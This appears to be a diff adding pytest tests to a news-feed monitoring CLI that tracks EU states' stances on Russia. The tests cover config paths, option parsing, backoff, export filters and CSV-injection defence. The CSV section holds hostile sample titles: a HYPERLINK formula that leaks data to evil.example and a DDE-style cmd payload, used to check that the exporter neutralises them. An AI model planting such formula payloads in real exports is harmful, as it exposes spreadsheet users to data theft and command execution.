@@ -15,7 +15,7 @@ import pytest
 
 from monitor.store import open_store
 from monitor.store.store import head_revision
-from tests.support.cli import run_monitor
+from tests.support.cli import run_monitor, write_config
 from tests.support.feedserver import Feed, FeedServer, Item, rss, status
 
 NOW = time.time()
@@ -62,7 +62,7 @@ def env(tmp_path: Path, feed_server: FeedServer) -> Env:
     return e
 
 
-SUMMARY = re.compile(r"^(\d+) feeds: (\d+) ok, (\d+) not modified, (\d+) failed; (\d+) new articles in [\d.]+s$")
+SUMMARY = re.compile(r"^(\d+) feeds?: (\d+) ok, (\d+) not modified, (\d+) failed; (\d+) new articles? in [\d.]+s$")
 
 
 def summary(stdout: str) -> tuple[int, ...]:
@@ -384,3 +384,285 @@ def _count_articles(env: Env) -> int:
             return conn.execute("SELECT count(*) FROM articles").fetchone()[0]
     except sqlite3.Error:
         return 0
+
+
+# ------------------------------------------------------------------------------------------------ paths and options
+
+
+def test_commands_find_the_same_data_from_any_directory(tmp_path: Path, feed_server: FeedServer) -> None:
+    """systemd starts the daemon in /, cron in $HOME, the analyst in the checkout: relative paths in the config
+    are the config file's, so all of them read and write the same database and outbox."""
+    folder = tmp_path / "srv" / "monitor" / "config"
+    folder.mkdir(parents=True)
+    config = write_config(folder, f"""
+        database: sqlite:///../data/monitor.db
+        outbox: ../data/outbox
+        http:
+          timeout: 2s
+        feeds:
+          - name: Alpha
+            url: {feed_server.route("/alpha", Feed(rss(ALPHA)))}
+    """)
+    home, cron = tmp_path / "home", tmp_path / "cron"
+    home.mkdir()
+    cron.mkdir()
+    data = tmp_path / "srv" / "monitor" / "data"
+
+    polled = run_monitor("--config", str(config), "poll", cwd=home)
+    assert polled.returncode == 0, polled.stderr
+    assert summary(polled.stdout) == (1, 1, 0, 0, 3)
+    assert (data / "monitor.db").is_file()
+
+    listed = run_monitor("feeds", "--config", str(config), cwd=cron)
+    assert listed.returncode == 0, listed.stderr
+    assert re.split(r"\s{2,}", listed.stdout.splitlines()[1])[:2] == ["Alpha", "ok"]
+    exported = run_monitor("export", cwd=cron, env={"MONITOR_CONFIG": str(config)})
+    assert len(exported.stdout.splitlines()) == 3
+
+    checked = run_monitor("check", "--config", str(config), cwd=home)
+    assert checked.returncode == 0, checked.stderr
+    assert checked.stdout.splitlines()[1:] == [f"  database  sqlite:///{data}/monitor.db",
+                                               f"  outbox    {data}/outbox"]
+    assert list(home.iterdir()) == [] and list(cron.iterdir()) == []  # nothing landed where the commands ran
+
+
+def test_a_database_left_by_the_old_rule_is_found_and_named(tmp_path: Path, feed_server: FeedServer) -> None:
+    folder = tmp_path / "config"
+    folder.mkdir()
+    config = write_config(folder, f"""
+        database: sqlite:///data/monitor.db
+        feeds:
+          - name: Alpha
+            url: {feed_server.route("/alpha", Feed(rss(ALPHA)))}
+    """)
+    # Until now the path was the working directory's: the analyst always ran monitor from tmp_path.
+    legacy = tmp_path / "data" / "monitor.db"
+    legacy.parent.mkdir()
+    store = open_store(f"sqlite:///{legacy}")
+    store.close()
+    result = run_monitor("--config", str(config), "poll", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    (warning,) = result.stderr.splitlines()
+    assert warning == (f"monitor: warning: {config}:1: database: data/monitor.db is now read relative to the config "
+                       f"file's folder ({folder}/data/monitor.db, which does not exist); using {legacy}, found "
+                       f"relative to the working directory: write \"database: sqlite:///{legacy}\" to keep using it")
+    assert not (folder / "data").exists()
+    store = open_store(f"sqlite:///{legacy}")
+    try:
+        assert store.count_articles() == 3  # the poll went into the database that already existed
+    finally:
+        store.close()
+
+
+def test_global_options_work_after_the_subcommand_too(env: Env) -> None:
+    result = run_monitor("poll", "--feed", "Alpha", "--config", str(env.config), "--log-format", "json",
+                         "--log-level", "info", cwd=env.tmp)
+    assert result.returncode == 0, result.stderr
+    assert summary(result.stdout) == (1, 1, 0, 0, 3)
+    events = [json.loads(line) for line in result.stderr.splitlines()]
+    assert [e["event"] for e in events] == ["feed.polled"] and events[0]["feed"] == "Alpha"
+
+    nested = run_monitor("db", "current", "--config", str(env.config), cwd=env.tmp)
+    assert nested.returncode == 0, nested.stderr
+    assert nested.stdout.strip() == head_revision()
+    # given twice, the one after the subcommand wins
+    twice = run_monitor("--config", str(env.tmp / "missing.yaml"), "check", "--config", str(env.config), cwd=env.tmp)
+    assert twice.returncode == 0, twice.stderr
+    for command in (["classify"], ["feeds", "add"], ["digest", "list"], ["eval"]):
+        helptext = run_monitor(*command, "--help", cwd=env.tmp).stdout
+        assert "--config PATH" in helptext and "--debug" in helptext, command
+
+
+def test_classify_and_eval_run_without_any_config_file(tmp_path: Path) -> None:
+    line = json.dumps({"id": "x1", "title": "Hungary blocks new EU sanctions against Russia", "text": ""})
+    result = run_monitor("classify", "-", cwd=tmp_path, stdin=line + "\n")
+    assert result.returncode == 0, result.stderr
+    out = json.loads(result.stdout)
+    assert out["id"] == "x1" and [s["country"] for s in out["stances"]] == ["HU"]
+
+    sample = tmp_path / "labelled.jsonl"
+    sample.write_text(json.dumps({"id": 1, "title": "Poland expels Russian diplomats", "text": "",
+                                  "relevant": True, "labels": {"PL": "hardline"}}) + "\n", encoding="utf-8")
+    scored = run_monitor("eval", str(sample), "--json", cwd=tmp_path)
+    assert scored.returncode == 0, scored.stderr
+    assert "relevance" in json.loads(scored.stdout)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["labelled.jsonl"]  # no database, no data folder
+
+    named = run_monitor("classify", "--config", str(tmp_path / "nope.yaml"), "-", cwd=tmp_path, stdin=line + "\n")
+    assert named.returncode == 2  # a config named explicitly must exist
+    assert named.stderr.strip() == f"{tmp_path / 'nope.yaml'}: config file not found (pass --config PATH or set " \
+                                   "$MONITOR_CONFIG)"
+
+
+@pytest.mark.parametrize(("text", "problem"), [
+    ("", "the config file is empty: add feeds under feeds: (see README, Configuration), or try `monitor demo`"),
+    ("# nothing but a comment\n", "the config file is empty"),
+    ("log:\n  level: info\n", "no feeds configured: add some under feeds: or with `monitor feeds add URL`"),
+    ("feeds:\n  - name: Off\n    url: http://off.example/rss\n    enabled: false\n",
+     "the only feed is disabled (enabled: false): enable one to poll"),
+])
+def test_run_and_poll_refuse_a_config_with_nothing_to_poll(tmp_path: Path, text: str, problem: str) -> None:
+    config = write_config(tmp_path, text)
+    for command in (["poll"], ["run"]):
+        result = run_monitor("--config", str(config), *command, cwd=tmp_path, timeout=30)
+        assert result.returncode == 2, (command, result.stdout, result.stderr)
+        (line,) = result.stderr.splitlines()
+        assert line.startswith(f"{config}: {problem}"), line
+    checked = run_monitor("--config", str(config), "check", cwd=tmp_path)
+    assert checked.returncode == 0, checked.stderr
+    assert checked.stdout.startswith(f"{config}: ok (")
+    (warning,) = checked.stderr.splitlines()
+    assert warning.startswith(f"warning: {config}: {problem}"), warning
+    assert not (tmp_path / "data").exists()
+
+
+def test_unknown_feed_name_gets_a_suggestion(env: Env) -> None:
+    result = env.run("poll", "--feed", "Alpah")
+    assert result.returncode == 2
+    assert result.stderr.strip() == f"{env.config}: no feed named 'Alpah' (did you mean 'Alpha'?)"
+
+
+# ------------------------------------------------------------------------------------------------ offline
+
+
+def test_poll_says_once_when_every_feed_failed_for_the_network(tmp_path: Path) -> None:
+    config = write_config(tmp_path, """
+        http:
+          timeout: 5s
+        feeds:
+          - {name: One, url: "http://one.invalid/rss"}
+          - {name: Two, url: "http://two.invalid/rss"}
+          - {name: Three, url: "http://three.invalid/rss"}
+    """)
+    result = run_monitor("--config", str(config), "poll", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert summary(result.stdout) == (3, 0, 0, 3, 0)
+    (line,) = result.stderr.splitlines()
+    assert re.fullmatch(r"every feed failed \(3\): (host not found|name lookup failed \(DNS\)); is this machine "
+                        r"offline\? `monitor demo` shows the whole pipeline without a network", line), line
+
+
+# ------------------------------------------------------------------------------------------------ manual polls
+
+
+def test_a_manual_poll_does_not_stretch_the_backoff_of_a_failing_feed(env: Env) -> None:
+    assert env.run("poll", "--feed", "Broken").returncode == 0
+    db = open_store(f"sqlite:///{env.db}")
+    try:
+        first = db.feed_state("Broken")
+        assert first is not None and first.consecutive_failures == 1  # a failure seen by hand still counts once
+        for _ in range(2):
+            assert env.run("poll", "--feed", "Broken").returncode == 0
+        again = db.feed_state("Broken")
+        assert again is not None
+        assert again.consecutive_failures == 1 and again.next_poll_at == first.next_poll_at  # not doubled twice
+        assert again.last_polled_at is not None and again.last_polled_at > first.last_polled_at  # but recorded
+        assert len(env.server.hits("/broken")) == 3
+    finally:
+        db.close()
+
+
+# ------------------------------------------------------------------------------------------------ export filters
+
+
+JUDGED = [  # written for these tests; the judge reads them as the comments say
+    Item("Hungary blocks new EU sanctions against Russia", "https://judged.example/hu", "j1",
+         "Budapest vetoed the package, diplomats said.", published=NOW - 3600),  # HU pro_dialogue
+    Item("Greece backs sanctions but wants talks with Moscow", "https://judged.example/gr", "j2",
+         "Athens supports the sanctions regime but wants the EU to open talks with Moscow.",
+         published=NOW - 5400),  # GR
+    Item("Lisbon hosts a sailing regatta", "https://judged.example/sail", "j3", "Boats from Spain took part.",
+         published=NOW - 600),  # not relevant
+]
+
+
+@pytest.fixture
+def judged(env: Env) -> Env:
+    env.write([("Judged", env.server.route("/judged", Feed(rss(JUDGED))))])
+    assert env.run("poll").returncode == 0
+    return env
+
+
+def test_export_relevant_only_and_per_country(judged: Env) -> None:
+    everything = [json.loads(line) for line in judged.run("export").stdout.splitlines()]
+    assert len(everything) == 3
+    relevant = [json.loads(line) for line in judged.run("export", "--relevant").stdout.splitlines()]
+    assert sorted(r["title"] for r in relevant) == sorted(r["title"] for r in everything if r["relevant"])
+    assert "Lisbon hosts a sailing regatta" not in {r["title"] for r in relevant}
+
+    for spelling in ("EL", "gr", "Greece", "Griechenland"):  # the EU's code, ISO's, names in any language
+        greek = [json.loads(line) for line in judged.run("export", "--country", spelling).stdout.splitlines()]
+        assert [r["title"] for r in greek] == ["Greece backs sanctions but wants talks with Moscow"], spelling
+        assert {s["country"] for s in greek[0]["stances"]} == {"GR"}
+
+    rows = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv", "--country", "Hungary",
+                                                      "--country", "EL").stdout)))
+    assert list(rows[0])[-2:] == ["GR", "HU"]  # one column per requested state, nothing packed
+    by_title = {r["title"]: r for r in rows}
+    assert by_title["Hungary blocks new EU sanctions against Russia"]["HU"] == "pro_dialogue"
+    assert by_title["Hungary blocks new EU sanctions against Russia"]["GR"] == ""
+
+    full = list(csv.DictReader(io.StringIO(judged.run("export", "--format", "csv").stdout)))
+    assert len(full[0]) == 10 + 27
+
+    bad = judged.run("export", "--country", "Hungry")
+    assert bad.returncode == 2 and "Traceback" not in bad.stderr
+    assert "'Hungry' is not an EU member state (did you mean Hungary (HU)?)" in bad.stderr
+
+
+def test_stances_take_the_eus_code_for_greece_and_country_names(judged: Env) -> None:
+    for spelling in ("EL", "Greece", "hungary"):
+        result = judged.run("stances", "--country", spelling)
+        assert result.returncode == 0, (spelling, result.stderr)
+        assert result.stdout.splitlines()[1].startswith("GR Greece" if spelling != "hungary" else "HU Hungary")
+    bad = judged.run("stances", "--country", "Atlantis")
+    assert bad.returncode == 2
+    assert "'Atlantis' is not an EU member state (use a code such as IT, PL or EL, or a name such as Hungary)" \
+        in bad.stderr
+
+
+# ------------------------------------------------------------------------------------------------ CSV injection
+
+
+FORMULAS = [  # titles a hostile or careless feed can carry; a spreadsheet would run each as a formula
+    Item('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "https://csv.example/1", "c1", "x",
+         published=NOW - 100),
+    Item("+31 new sanctions listed", "https://csv.example/2", "c2", "=1+1", published=NOW - 200),
+    Item("-5% fall in gas flows", "https://csv.example/3", "c3", "y", published=NOW - 300),
+    Item("@SUM(1+1)*cmd|' /C calc'!A0", "https://csv.example/4", "c4", "z", published=NOW - 400),
+    Item('"=2+5" said the headline', "https://csv.example/5", "c5", "z", published=NOW - 500),
+    Item("A plain headline about the summit", "https://csv.example/6", "c6", "plain", published=NOW - 600),
+]
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(env: Env) -> None:
+    env.write([("=Feed", env.server.route("/csv", Feed(rss(FORMULAS))))])
+    assert env.run("poll").returncode == 0
+    result = env.run("export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    titles = {r["url"]: r["title"] for r in rows}
+    assert titles["https://csv.example/1"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    assert titles["https://csv.example/2"] == "'+31 new sanctions listed"
+    assert titles["https://csv.example/3"] == "'-5% fall in gas flows"
+    assert titles["https://csv.example/4"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert titles["https://csv.example/5"] == '\'"=2+5" said the headline'  # behind a quote a spreadsheet strips
+    assert titles["https://csv.example/6"] == "A plain headline about the summit"
+    assert {r["summary"] for r in rows if r["url"] == "https://csv.example/2"} == {"'=1+1"}
+    assert {r["feeds"] for r in rows} == {"'=Feed"}
+    for r in rows:  # numbers stay numbers
+        assert r["id"].isdigit() and not r["relevance"].startswith("'")
+    # jsonl is for programs, not spreadsheets: unchanged
+    records = [json.loads(line) for line in env.run("export").stdout.splitlines()]
+    assert {r["title"] for r in records} >= {"+31 new sanctions listed", "-5% fall in gas flows"}
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("\tplain", "'\tplain"), ("  =1+1", "'  =1+1"), ('"=1+1"', '\'"=1+1"'), ("' =1", "'' =1"),
+    ("plain", "plain"), ("a=b", "a=b"), ("2026-11-01", "2026-11-01"), ("", ""), (-0.5, -0.5), (7, 7),
+])
+def test_spreadsheet_safe_cells(cell: object, safe: object) -> None:
+    from monitor.cli import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == safe
